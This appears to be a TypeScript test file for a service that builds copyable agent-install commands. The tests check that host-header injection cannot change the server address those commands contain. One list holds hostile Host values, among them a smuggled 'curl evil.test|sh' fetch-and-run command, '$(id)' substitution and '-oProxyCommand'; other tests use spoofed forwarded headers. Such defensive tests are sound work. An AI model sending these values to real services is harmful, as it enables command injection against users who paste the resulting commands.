// Links and commands that people copy: what a request says about our address is checked before it is repeated.
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { request } from 'node:http'
import { after, before, describe, test } from 'node:test'
import { adminKey, startService, type TestService } from '../../test/support/service.ts'

/** Node's fetch sets Host itself. */
const createAgentAt = (service: TestService, headers: Record<string, string>): Promise<{ command: string }> =>
  new Promise((resolve, reject) => {
    const sent = request(
      `${service.url}/platformapi/agents`,
      {
        method: 'POST',
        headers: { authorization: `Bearer ${adminKey}`, 'content-type': 'application/json', ...headers },
      },
      async (answer) => resolve(JSON.parse((await answer.toArray()).join(''))),
    )
    sent.on('error', reject)
    sent.end(JSON.stringify({ organization_code: 'MAIN', name: `Branch ${randomUUID()}` }))
  })
const serverOf = async (service: TestService, headers: Record<string, string>) =>
  / --server (.+) --token vda_[\w-]+$/.exec((await createAgentAt(service, headers)).command)?.[1]

describe('our own address in links and commands', () => {
  let service: TestService
  before(async () => {
    service = await startService()
  })
  after(() => service.stop())

  test('is the one that was asked for, where that is a host and a port', async () => {
    for (const host of ['vedette.corp.com', 'vedette:8443', '192.0.2.7:8080', 'LOCALHOST:1'])
      assert.equal(await serverOf(service, { host }), `http://${host.toLowerCase()}`)
    assert.equal(await serverOf(service, { host: '[2001:db8::1]:8080' }), "'http://[2001:db8::1]:8080'")
  })

  test('is where the service listens, where the request says anything else', async () => {
    for (const host of [
      'x;curl evil.test|sh',
      '$(id).evil.test',
      'a b',
      "x'y",
      'user@evil.test',
      'evil.test/path',
      'evil.test?',
      'evil.test#',
      'x:99999',
      'x:',
      '-oProxyCommand',
      '[::1',
      '[zz]',
      `${'a'.repeat(64)}.test`,
      `${'a.'.repeat(130)}test`,
    ])
      assert.equal(await serverOf(service, { host }), service.url, host)
  })

  test('is not taken from headers that only a trusted proxy may set', async () => {
    const forwarded = { 'x-forwarded-host': 'evil.test', 'x-forwarded-proto': 'https' }
    assert.equal(await serverOf(service, { host: 'vedette.corp.com', ...forwarded }), 'http://vedette.corp.com')
    const behind = await startService({ VEDETTE_TRUSTED_PROXIES: '127.0.0.1/32' })
    const proxied = { 'x-forwarded-host': 'soc.corp.com', 'x-forwarded-proto': 'https' }
    assert.equal(await serverOf(behind, proxied), 'https://soc.corp.com')
    assert.equal(await serverOf(behind, { 'x-forwarded-proto': 'javascript', host: 'a.test' }), 'http://a.test')
    await behind.stop()
  })

  test('is the public one where that is set, whatever the request says', async () => {
    const other = await startService({ VEDETTE_PUBLIC_URL: 'https://vedette.corp.com' })
    assert.equal(await serverOf(other, { host: 'evil.test' }), 'https://vedette.corp.com')
    await other.stop()
  })
})
